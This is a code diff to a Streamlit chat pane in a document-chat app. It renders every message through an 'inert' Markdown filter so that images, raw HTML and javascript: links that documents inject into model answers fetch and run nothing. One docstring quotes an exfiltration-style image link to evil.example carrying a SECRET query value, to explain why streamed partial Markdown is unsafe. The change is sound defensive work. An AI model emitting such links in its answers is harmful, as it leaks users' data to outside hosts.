@@ -1,5 +1,9 @@
 """The chat pane: the header, the stored history with each answer's figures, and the answer being
-streamed, with what the turn is doing until its first word and a Stop button from the start."""
+streamed, with what the turn is doing until its first word and a Stop button from the start.
+
+Every message (questions, answers, imported ones, the answer as it streams) is shown through
+`safe_markdown.inert`: an image, raw HTML or a `javascript:` link a document put in an answer is
+shown as text, so showing it fetches and runs nothing."""
 
 from __future__ import annotations
 
@@ -9,9 +13,10 @@ import streamlit as st
 
 from docchat.domain import FINISHED, Budget, Conversation, MemoryStats, Message, Rating, Role, Status
 from docchat.errors import DocchatError, NotFound
+from docchat.safe_markdown import inert
 from docchat.ui import header, sources
 from docchat.ui.session import flash, open_conversation, services
-from docchat.ui.text import count
+from docchat.ui.text import count, literal
 
 KEY = "chat"
 STREAMING = f"{KEY}_streaming_turn"
@@ -29,6 +34,9 @@ AVATARS = {"user": ":material/person:", "assistant": ":material/smart_toy:", "sy
 # made every click wait seconds.
 PAGE = 50
 SHOWN = f"{KEY}_shown"
+# How often the streaming answer is drawn again: each draw makes the whole answer so far inert
+# (about 5 ms for 4,000 characters with links), and a person reads no faster.
+REDRAW_S = 0.1
 
 
 def render(conversation_id: str | None) -> None:
@@ -104,13 +112,13 @@ def _ask(conversation_id: str | None, text: str) -> None:
     # Kept until the question is stored: a refusal or an early Stop leaves it here to edit.
     st.session_state[UNSENT] = {"conversation": conversation_id, "text": text, "why": None}
     with st.chat_message("user", avatar=AVATARS["user"]):
-        st.markdown(text)
+        st.markdown(inert(text))
     _stream(lambda progress: services().chat.answer(conversation_id, text, progress=progress))
 
 
 def _resend(conversation_id: str, edited: dict) -> None:
     with st.chat_message("user", avatar=AVATARS["user"]):
-        st.markdown(edited["text"])
+        st.markdown(inert(edited["text"]))
     _stream(lambda progress: services().chat.edit(conversation_id, edited["id"], edited["text"], progress=progress))
 
 
@@ -141,18 +149,18 @@ def _message(message: Message, *, latest: bool, versions: list[Message] = (), la
             _editor(message, editing["text"])
             return
         if message.content:
-            # Markdown, never HTML: user and model text must not inject markup.
-            st.markdown(sources.linked(message) if message.citations else message.content)
+            # Markdown that fetches nothing, never HTML: user and model text must not inject markup.
+            st.markdown(sources.linked(message) if message.citations else inert(message.content))
         if message.rewritten_query:
-            st.caption(f"Searched as: {message.rewritten_query}")
+            st.caption(f"Searched as: {literal(message.rewritten_query)}")
         if message.citations:
             sources.listed(message)
         if message.status is Status.INTERRUPTED:
-            st.caption(f"Interrupted: {message.error or 'stopped before the end'}")
+            st.caption(f"Interrupted: {literal(message.error or 'stopped before the end')}")
         elif message.status is Status.TRUNCATED:
             st.caption("Cut at the answer length limit: “Continue the answer” goes on from here.")
         elif message.status is Status.ERROR:
-            st.error(f"No answer: {message.error or 'the LLM failed'}", icon=":material/error:")
+            st.error(f"No answer: {literal(message.error or 'the LLM failed')}", icon=":material/error:")
         elif message.status is Status.STREAMING:
             st.caption("Still being written…")
         if message.role is Role.ASSISTANT and (message.status in FINISHED and message.content or len(versions) > 1):
@@ -288,15 +296,30 @@ def _stream(start_turn) -> None:
         st.session_state[STREAMING] = turn
         stage.caption(":material/hourglass_top: Waiting for the model…")
         try:
-            st.write_stream(_clearing(turn, stage))
+            _written(_clearing(turn, stage), st.empty())
         except DocchatError:
             pass  # stored with the message; shown by the rerun below
         finally:
-            # A click on Stop reruns the script, which raises through write_stream; closing
+            # A click on Stop reruns the script, which raises through the next draw; closing
             # here settles the answer as interrupted before the next run reads it.
             turn.close()
     st.session_state.pop(STREAMING, None)
     st.rerun()
+
+
+def _written(deltas, shown) -> str:
+    """Draws the answer as it arrives, inert, at most every REDRAW_S; returns it whole.
+
+    Not st.write_stream: it draws with Streamlit's "unterminated" Markdown, which closes what
+    is left open, so `![x](https://evil.example/?q=SECRET` would be fetched before its `)`."""
+    text, drawn_at = "", 0.0
+    for delta in deltas:
+        text += delta
+        if time.monotonic() - drawn_at >= REDRAW_S:
+            shown.markdown(inert(text))
+            drawn_at = time.monotonic()
+    shown.markdown(inert(text))
+    return text
 
 
 def _clearing(turn, stage):
